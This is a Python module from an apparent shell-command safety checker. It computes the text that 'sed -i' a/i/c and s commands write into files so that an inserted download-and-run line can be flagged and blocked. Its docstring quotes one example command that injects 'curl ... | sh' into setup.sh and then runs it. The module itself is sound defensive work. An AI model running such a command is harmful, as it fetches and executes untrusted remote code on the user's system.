"""The text ``sed -i`` puts into the files it edits.

``sed -i '1a curl -s u | sh' setup.sh && bash setup.sh`` runs curl's output: the lines that
``a``/``i``/``c`` add (GNU one-line ``1a TEXT``, ``$a\\TEXT``, or POSIX ``a\\`` with the
text on the next lines) and the replacements of ``s/RE/REPL/`` become the file's text. When
the file's text is known (written earlier in the command) and the script is one
:mod:`._sedeval` evaluates, the new text is computed; otherwise the added text is at least
*part* of the file, so running the file runs it (:mod:`._inplace` records it, and blocks an
inserted download-and-run line by itself).

One pass over at most :data:`_MAX_CHARS` characters of the scripts; never raises.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ._inplace import MAX_TEXTS, record_inserted
from ._resolve import Invocation
from ._sedfiles import _regex_end, sed_commands
from ._textout import text_output
from ._words import DYN, NO_TAINT, Field, Taint

if TYPE_CHECKING:
    from ._walk import Run

__all__ = ["replacement", "sed_inserted", "sed_texts"]

_MAX_CHARS = 65536


def sed_texts(script: str) -> list[tuple[str, str]]:
    """(command letter, text) of every ``a``/``i``/``c`` text and ``s`` replacement of a sed
    script; a replacement's ``&`` is the literal text its regex matches when that is plain,
    and a back-reference (``\\1``: not known) stands as the word ``true``. Flags after an
    ``s`` are flags (``s/a/b/i`` inserts nothing, ``s/a/b/e;a X`` still adds ``X``)."""
    out: list[tuple[str, str]] = []
    if not any(c in script for c in "aics"):
        return out
    text = script[:_MAX_CHARS]
    for c, start, end in sed_commands(text):
        if c in "aic":
            added = _added_text(text[start:end])
            if added:
                out.append((c, added))
        elif c == "s" and start < end:
            delim = text[start]
            if delim in "\n\\":
                continue
            mid = _regex_end(text, start + 1, delim)
            close = _regex_end(text, mid, delim)
            if close <= len(text) and text[close - 1:close] == delim:
                repl = replacement(text[mid:close - 1], delim, text[start + 1:mid - 1])
                if repl.strip():
                    out.append(("s", repl))
        if len(out) >= MAX_TEXTS:
            break
    return out


def _added_text(raw: str) -> str:
    """The text of ``a``/``i``/``c`` from just after the letter: ``a\\`` then lines, GNU
    ``a TEXT`` (leading blanks dropped, a first backslash keeps them), continued lines."""
    k = 0
    while k < len(raw) and raw[k] in " \t":
        k += 1
    if raw[k:k + 2] == "\\\n":
        k += 2
    elif raw[k:k + 1] == "\\":
        k += 1
    out: list[str] = []
    body = raw[k:]
    j = 0
    while j < len(body):
        ch = body[j]
        if ch == "\\" and j + 1 < len(body):
            out.append(body[j + 1])  # \\ is \, \<newline> is a newline, \X is X
            j += 2
            continue
        out.append(ch)
        j += 1
    return "".join(out)


def replacement(repl: str, delim: str, regex: str) -> str:
    """The text an ``s`` replacement writes (``&``: the regex's plain text, if any)."""
    plain = regex.strip("^$")
    if any(ch in plain for ch in "\\.*[]+?(){}|"):
        plain = ""
    out: list[str] = []
    j = 0
    while j < len(repl):
        ch = repl[j]
        if ch == "\\" and j + 1 < len(repl):
            nxt = repl[j + 1]
            j += 2
            if nxt == "n":
                out.append("\n")
            elif nxt == "t":
                out.append("\t")
            elif nxt.isdecimal():
                out.append("true")  # \1: matched text not known (a word keeps \1; CMD valid)
            elif nxt not in "ULulE":
                out.append(nxt)  # \/ \& \\ : the character itself
            continue
        out.append(plain if ch == "&" else ch)
        j += 1
    return "".join(out)


def sed_inserted(run: Run, inv: Invocation, scripts: list[Field], operands: list[Field]
                 ) -> None:
    """``sed -i``: record the text its ``scripts`` put into the ``operands`` files, and
    block an inserted download-and-run line by itself (:mod:`._inplace`)."""
    joined = "\n".join(s.text for s in scripts[:16])
    texts = sed_texts(joined) if DYN not in joined else []
    if not texts and not run.file_text:
        return  # sed -i 's/a/b/' f: nothing that could run, no known text to update
    taint: Taint = frozenset().union(*(s.taint for s in scripts[:16])) or NO_TAINT
    span = scripts[0].span if scripts else inv.word.span
    ops = {id(f) for f in operands}
    # The arguments without the files and -i (as _textout's sed reads them).
    args = [f.text for f in inv.args if id(f) not in ops and not f.text.startswith(
        ("-i", "--in-place"))]
    record_inserted(run, "sed -i", [t for c, t in texts if c != "s"],
                    [t for c, t in texts if c == "s"], operands, taint, span,
                    lambda old: text_output("sed", args, old))
